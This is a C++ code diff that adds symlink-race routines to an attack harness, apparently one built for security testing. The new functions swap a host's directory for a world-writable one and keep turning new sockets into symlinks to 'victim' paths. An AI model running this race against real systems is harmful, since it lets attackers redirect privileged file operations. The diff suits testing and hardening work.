@@ -81,6 +81,31 @@ void Swap(const std::string& path, const std::string& victim) {
   rename(aside.c_str(), path.c_str());
 }
 
+// Each socket that appears becomes a link, before the host has done with it.
+void TurnSocketsIntoLinks(const std::string& directory,
+                          const std::string& victim) {
+  for (const std::string& name : EntriesOf(directory)) {
+    const std::string path = directory + "/" + name;
+    struct stat facts = {};
+    if (lstat(path.c_str(), &facts) != 0 || !S_ISSOCK(facts.st_mode)) continue;
+    unlink(path.c_str());
+    Try(symlink(victim.c_str(), path.c_str()));
+  }
+}
+
+// A directory of ours in the place of one of the host's, for a while.
+void HoldDirectory(const std::string& path, const std::string& victim) {
+  struct stat facts = {};
+  if (lstat(path.c_str(), &facts) != 0 || !S_ISDIR(facts.st_mode) ||
+      facts.st_uid == getuid() ||
+      rename(path.c_str(), (path + ".held").c_str()) != 0) {
+    return;
+  }
+  mkdir(path.c_str(), 0777);
+  chmod(path.c_str(), 0777);
+  for (int i = 0; i < 20000; ++i) TurnSocketsIntoLinks(path, victim);
+}
+
 // A directory of ours in the place of one, with a link for each name in it.
 void SwapDirectory(const std::string& path, const std::string& victim) {
   const std::vector<std::string> inside = EntriesOf(path);
@@ -117,6 +142,7 @@ void AttackFiles(const std::string& directory,
   for (const std::string& place : {parent, directory}) {
     for (const std::string& name : EntriesOf(place)) {
       const std::string path = place + "/" + name;
+      HoldDirectory(path, Pick(victims));
       if (IsDirectory(path)) SwapDirectory(path, Pick(victims));
       Swap(path, Pick(victims));
     }
